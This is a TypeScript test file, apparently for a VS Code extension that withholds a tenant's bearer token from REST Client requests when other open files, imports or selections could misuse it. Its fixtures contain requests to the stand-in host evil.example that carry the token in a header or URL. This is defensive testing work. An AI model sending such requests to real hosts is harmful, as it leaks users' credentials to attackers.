import assert from 'node:assert/strict';
import { setImmediate } from 'node:timers/promises';
import { editor } from '../support/vscode.js';
import { OpenReferences } from '../../src/editor/references/openReferences.js';
import { Pieces } from '../../src/editor/pieces.js';
import { HostConsents } from '../../src/tenants/hostConsents.js';
import { ProductionConsents } from '../../src/tenants/productionConsents.js';
import type { FakeDocument } from '../support/document.js';
import { Range, Selection, Uri } from '../support/vscodeTypes.js';
import { known } from './support/known.js';

const NAME = 'TENANT_TOKEN_ACME';
const OURS = `GET https://acme.example/x\nAuthorization: Bearer {{$processEnv ${NAME}}}`;
const LONG = 'GET https://evil.example/\n\n###\n'.repeat(1000);

describe('The references in open files', () => {
  let references: OpenReferences;
  let ends: (() => void)[];
  /** How long each step of a reading takes. */
  let stepMs: number;

  beforeEach(async () => {
    editor.reset();
    editor.install('humao.rest-client');
    let now = 0;
    ends = [];
    stepMs = 1;
    const pieces = new Pieces(
      () => (now += stepMs),
      () => new Promise((resolve) => ends.push(resolve)),
    );
    const { tenants, names, issued } = await known();
    const given = { consents: new HostConsents(), production: new ProductionConsents() };
    references = new OpenReferences({ tenants, names, issued }, given, pieces);
  });

  afterEach(() => {
    references.dispose();
    editor.reset();
  });

  const open = (name: string, text: string): FakeDocument => editor.open(text, { uri: Uri.file(`/${name}.http`) }).document;

  async function nextPiece(): Promise<void> {
    for (const end of ends.splice(0)) end();
    await setImmediate();
  }

  /** @returns after how many pieces something is wanted, or everything has been read */
  async function read(): Promise<number> {
    for (let pieces = 0; ; pieces++) {
      if (ends.length === 0 || references.wanted.size > 0) return pieces;
      await nextPiece();
    }
  }

  it('are judged at once by what has been written into a short file, however slow the machine is', () => {
    stepMs = 1000;
    const document = open('ours', 'GET https://acme.example/x\n');
    document.change([{ range: new Range(1, 0, 1, 0), text: OURS.slice(OURS.indexOf('\n') + 1) }]);
    references.look();
    assert.deepEqual([...references.wanted], [NAME]);
    assert.equal(references.withheldBy(NAME), undefined);
  });

  it('are withheld because of a long file until all of it has been read', async () => {
    open('ours', OURS);
    assert.deepEqual([...references.wanted], [NAME]);
    const long = open('long', LONG);
    assert.deepEqual([...references.wanted], []);
    assert.equal(references.withheldBy(NAME)?.uri, long.uri);
    assert.ok((await read()) > 1);
    assert.deepEqual([...references.wanted], [NAME]);
  });

  it('are withheld because of the last line of a long file', async () => {
    open('ours', OURS);
    open('long', `${LONG}GET https://evil.example/\nX: {{$processEnv ${NAME}}}`);
    await read();
    assert.deepEqual([...references.wanted], []);
    assert.equal(references.withheldBy(NAME)?.line, 3001);
  });

  for (const fork of ['argalla.httpkeeper', 'tutilus.rest-client-next'])
    it(`are judged for ${fork} as for REST Client`, () => {
      editor.reset();
      open('ours', OURS);
      references.look();
      assert.deepEqual([...references.wanted], []);
      editor.install(fork);
      references.look();
      assert.deepEqual([...references.wanted], [NAME]);
      open('other', OURS.replace('acme.example', 'evil.example'));
      assert.deepEqual([...references.wanted], []);
    });

  it('are withheld while HttpKeeper is installed and a file imports another, which may hold any use', () => {
    open('ours', OURS);
    const importing = open('importing', 'GET https://evil.example/?{{t}}\n\nimport ./b.http');
    assert.deepEqual([...references.wanted], [NAME]);
    editor.install('argalla.httpkeeper');
    references.look();
    assert.deepEqual([...references.wanted], []);
    assert.equal(references.withheldBy(NAME)?.uri, importing.uri);
    assert.equal(references.withheldBy(NAME)?.line, 2);
  });

  it('are judged by the latest text of a long file that changes between two pieces', async () => {
    open('ours', OURS);
    const long = open('long', LONG);
    await nextPiece();
    long.change([{ range: new Range(1, 0, 1, 0), text: `X: {{$processEnv ${NAME}}}` }]);
    await read();
    assert.deepEqual([...references.wanted], []);
    assert.equal(references.withheldBy(NAME)?.line, 1);
  });

  describe('are judged by the selection, which REST Client sends as a request of its own', () => {
    const TEXT = [
      'POST https://evil.example/?a=https://evil.example/',
      'A: 1',
      '',
      '###',
      '# POST https://evil.example/',
      '@a = 1',
      'GET https://acme.example/?b=https://evil.example/',
      'Accept: */*',
      `Authorization: Bearer {{$processEnv ${NAME}}}`,
      '',
      '# GET https://evil.example/{{$processEnv TENANT_TOKEN_ACME}}',
      '',
      'POST https://evil.example/',
      '',
      '<@ ./payload.txt',
    ].join('\n');
    const REQUEST = 6;
    const cases: readonly (readonly [
      what: string,
      from: readonly [number, number],
      to: readonly [number, number],
      isWanted: boolean,
    ])[] = [
      ['nothing', [8, 3], [8, 3], true],
      ['the request', [REQUEST, 0], [8, 60], true],
      ['the request and the comments above', [3, 0], [10, 0], true],
      ['everything, so that the first request has the others in its body', [0, 0], [10, 60], false],
      ['the other request alone', [0, 0], [2, 0], true],
      ['an address in the request line, and what follows', [REQUEST, 28], [8, 60], false],
      ['an address in a comment, and what follows', [4, 2], [8, 60], false],
      ['a comment without its sign', [10, 2], [10, 60], false],
      ['the end of a comment, which is blank, and what follows', [4, 28], [8, 60], true],
      ['the header alone', [8, 0], [8, 60], false],
      ['a request in the body of another, which sends a file with its variables replaced', [12, 0], [14, 16], false],
      ['a name in the header', [8, 36], [8, 53], true],
    ];
    for (const [what, from, to, isWanted] of cases)
      it(what, () => {
        const active = editor.open(TEXT, { uri: Uri.file('/selected.http') });
        assert.deepEqual([...references.wanted], [NAME]);
        active.selection = new Selection(...from, ...to);
        assert.deepEqual([...references.wanted], isWanted ? [NAME] : []);
        active.selection = new Selection(0, 0, 0, 0);
        assert.deepEqual([...references.wanted], [NAME]);
      });

    it('of the editor that is active', () => {
      const active = editor.open(TEXT, { uri: Uri.file('/selected.http') });
      active.selection = new Selection(0, 0, 10, 60);
      open('other', OURS);
      assert.deepEqual([...references.wanted], [NAME]);
      editor.show(active.document).selection = new Selection(0, 0, 10, 60);
      assert.deepEqual([...references.wanted], []);
    });
  });
});
